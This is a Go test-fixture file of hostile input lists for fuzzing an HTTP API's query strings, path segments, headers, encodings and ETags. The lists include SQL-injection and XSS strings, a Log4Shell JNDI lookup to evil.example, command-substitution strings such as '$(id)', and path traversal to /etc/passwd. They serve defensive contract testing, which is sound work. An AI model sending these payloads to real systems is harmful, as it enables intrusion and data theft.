package contracttest

import "strings"

// What follows is drawn from in this order of preference: rapid shrinks towards the front.

// hostileText are values that are odd once they are read.
var hostileText = []string{
	"", " ", "0", "-1", "1", "a", "null", "undefined", "NaN", "true", "[]", "{}", "*", "?", "=", "&", "#", "%", "\\", "`", ",", ",,,", "a,b",
	"+5", "05", "1.0", "1e3", "1e309", "0x1F", "1_000", "٣", "9223372036854775807", "9223372036854775808", "18446744073709551616",
	"-9223372036854775809", " 5", "5 ", "5\n",
	"\x00", "a\x00b", "\t", "\r\nSet-Cookie: a=b", "\x1b[31m", "\x7f",
	"\u202eabc\u202c", "\u200b", "\u200d", "\ufeff", "\u2028", "😀", strings.Repeat("😀", 60), "ﷺ", strings.Repeat("ﷺ", 100),
	"e" + strings.Repeat("\u0301", 99), "İ", "ß", "ı", "Ａ", "𝕏", "�",
	"'", "' OR '1'='1", `"; DROP TABLE tokens;--`, "%", "_", `\`, "a%b_c", "$1", ":a", "?::int", "/**/", "\\'", "E'\\x41'",
	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</script>", "&lt;", "javascript:alert(1)",
	`{"$gt":""}`, `{"a":1}`, `"`, `\u0000`, "{{7*7}}", "${jndi:ldap://evil.example/a}", "$(id)", "`id`", "|id", "(a|a)*$",
	"../../etc/passwd", "..", "/", "//evil.example", "%2e%2e%2f", "%00", "file:///etc/passwd",
	strings.Repeat("a", 101), strings.Repeat("ж", 101), strings.Repeat("9", 400), strings.Repeat("a", 1500), strings.Repeat("(", 1000),
}

// hostileRaw are values of a query that are odd before they are read.
var hostileRaw = []string{
	"+", "a;b", "%", "%f", "%zz", "a%", "%u0041", "%ff", "%00", "%ed%a0%80", "%c0%ae", "%e2%82", "%f4%90%80%80", "%25zz", "a%00", "a=b", "ж",
	`"`, "<", "%2c", "%26limit=1", "%0d%0a",
}

// hostileSegments are values of a segment of a path, as they are written there.
var hostileSegments = []string{
	"", ".", "..", "%20", "!", "0", "a", "-1", "*", "candles", "info", "0x", "%2e%2e", "%2F", "%2f..%2f", "%2e%2e%2fversion", "..%2f..%2fversion",
	"%252e%252e", "%00", "%ff", "%c0%ae", "%0a", "%0d%0aX:1", "a/b", "a//b", "/", ";x=1", "%3Fx=1", "%23", "%5c..%5c", "a:b", "@", "%7f",
	"%F0%9F%98%80", "%E2%80%AE", "%3Cscript%3E", "'%20OR%20'1'='1", "%22%3B--", "%7B%7B7*7%7D%7D", "null", "0x" + strings.Repeat("0", 39),
	"0X" + strings.Repeat("1", 40), "0x" + strings.Repeat("g", 40), "0x" + strings.Repeat("1", 40) + ".png", "0x" + strings.Repeat("1", 40) + "%00",
	strings.Repeat("1", 45), strings.Repeat("a", 1500), strings.Repeat("%2e%2e%2f", 100),
}

// paddings are parameters that nobody documents, as they are written in a query.
var paddings = []string{
	"unknown=1", "unknown", "_=1700000000000", "callback=alert", "unknown=", "=", "=1", "", "unknown=%00", "unknown=%ff", "unknown=%zz", "%zz=1",
	"unknown=1;limit=1", "unknown[]=1", "unknown[a]=1", "__proto__=1", "constructor=1", "unknown=" + strings.Repeat("a", 1000),
	strings.Repeat("unknown=1&", 100) + "unknown=1",
}

// hostileHeaders are the lines that a request may have beside those that the API reads.
var hostileHeaders = map[string][]string{
	"Accept":                 {"text/html", "application/xml", "*/*;q=0", "x", strings.Repeat("a/b,", 200)},
	"Accept-Encoding":        codings,
	"Accept-Language":        {"x", "*"},
	"Authorization":          {"Bearer x", "Basic Og==", "x"},
	"Content-Type":           {"application/json", "multipart/form-data"},
	"Cookie":                 {"a=b", "session=" + strings.Repeat("a", 500)},
	"Forwarded":              {"for=192.0.2.1", "for=\"_x\"", ";;,"},
	"If-Match":               {`"x"`, "*"},
	"If-Modified-Since":      {"Fri, 02 Jan 2099 00:00:00 GMT", "x"},
	"If-None-Match":          append([]string{"*"}, otherTags...),
	"If-Range":               {`"x"`, "x"},
	"If-Unmodified-Since":    {"Fri, 02 Jan 1970 00:00:00 GMT", "x"},
	"Last-Event-Id":          {"1", "x", "-1"},
	"Origin":                 {"https://app.example.com", "null", "x", "https://evil.example\"><"},
	"Range":                  {"bytes=0-1", "bytes=-1", "bytes=9-1", "x", "bytes=" + strings.Repeat("0-1,", 200)},
	"Upgrade":                {"websocket", "h2c"},
	"User-Agent":             {"", "<script>", strings.Repeat("a", 1000)},
	"X-Api-Key":              {"x", "bw_0000", "ключ", "' OR '1'='1", "a b", strings.Repeat("a", 1000)},
	"X-Forwarded-For":        {"192.0.2.7", "2001:db8::1", "[::1]:80", "x", "1.2.3.4, 5.6.7.8, ,", "unknown", "999.1.1.1", strings.Repeat("1.2.3.4,", 120)},
	"X-Forwarded-Host":       {"evil.example"},
	"X-Forwarded-Proto":      {"javascript"},
	"X-Http-Method-Override": {"DELETE", "x"},
	"X-Original-Url":         {"/api/version", "/metrics"},
	"X-Request-Id":           {"x", "a b", "\"<", strings.Repeat("a", 500)},
}

// codings are values of Accept-Encoding.
var codings = []string{
	"gzip", "zstd", "identity", "br", "deflate", "*", "", "gzip, zstd", "zstd, gzip, br", "gzip;q=0", "zstd;q=0, gzip", "gzip;q=0, zstd;q=0",
	"*;q=0", "identity;q=0", "identity;q=0, *;q=0", "gzip;q=0.001", "gzip; q=0", "gzip ;q=0", "GZIP", "gzip;q=1.5", "gzip;q=", "gzip;q=x", "gzip;;",
	";", ",", "q=1", "gzipzstd", "x-gzip", "gzip\t", strings.Repeat("gzip,", 200), strings.Repeat("a", 1000),
}

// namingTags are values of If-None-Match that name the answer's ETag: weak and strong tags are compared alike there.
var namingTags = []string{
	"W/" + namedETag, namedETag, "*", `"x", W/` + namedETag, `W/"x",` + namedETag, `W/` + namedETag + `, "x"`, "W/" + namedETag + ",", `"a,b", W/` + namedETag,
}

// otherTags are values of If-None-Match that name nothing.
var otherTags = []string{
	`"x"`, `W/"x"`, `""`, `W/""`, "W/", "x", `"*"`, `W/*`, ",", `"`, `"x`, `w/"x"`, `"00000000000000000000000000000000"`, strings.Repeat(`"x",`, 200),
}
